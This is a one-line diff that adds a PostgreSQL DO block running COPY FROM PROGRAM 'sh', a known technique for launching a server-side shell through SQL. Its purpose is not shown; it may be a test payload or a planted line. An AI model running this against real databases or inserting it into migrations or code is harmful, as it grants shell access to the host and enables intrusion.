@@ -1,0 +1,1 @@
+DO $$ BEGIN COPY t FROM PROGRAM 'sh'; END $$
